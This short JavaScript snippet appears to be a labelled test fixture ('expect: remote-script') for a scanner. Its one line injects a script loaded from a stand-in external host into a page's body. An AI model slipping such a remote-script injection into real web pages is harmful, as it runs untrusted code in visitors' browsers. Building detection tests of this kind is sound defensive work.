// expect: remote-script
document.body.appendChild(document.createElement("script")).src="https://x.example/p.js";
